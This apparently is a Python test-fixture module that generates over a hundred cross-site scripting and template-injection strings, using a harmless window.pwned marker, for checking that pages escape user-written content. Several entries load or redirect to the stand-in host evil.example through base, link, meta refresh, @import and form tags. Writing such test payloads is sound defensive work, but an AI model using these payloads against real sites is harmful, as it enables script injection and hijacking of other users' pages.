"""More than a hundred strings that want to run, load or break out, wherever a page shows what others wrote."""

_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart")
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "object data=x", "marquee",
)  # fmt: skip
_SCRIPT = "<script>window.pwned=1</script>"
_IMAGE = "<img src=x onerror=window.pwned=1>"

INJECTIONS = (
    *(f"<{tag} {handler}=window.pwned=1>" for tag in _TAGS for handler in _HANDLERS),
    *(f'"><{tag} {handler}="window.pwned=1' for tag in _TAGS[:4] for handler in _HANDLERS[:3]),
    *(
        f"</{tag}>{_SCRIPT}"
        for tag in ("textarea", "title", "option></select", "pre", "style", "template", "bdi", "svg")
    ),
    _SCRIPT,
    f"<!-->{_SCRIPT}-->",
    f"]]>{_SCRIPT}",
    f"<svg>{_SCRIPT}</svg>",
    f"<math>{_SCRIPT}</math>",
    f"<noscript><p title='</noscript>{_IMAGE}'>",
    f"\u202e{_IMAGE}\u202c",
    "' onfocus='window.pwned=1' autofocus='",
    "javascript:window.pwned=1",
    "<a href=javascript:window.pwned=1 autofocus>x</a>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "%(block)s %s %d {wallet}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>@import url(//evil.example)</style>",
    "<form action=//evil.example><button>x",
)
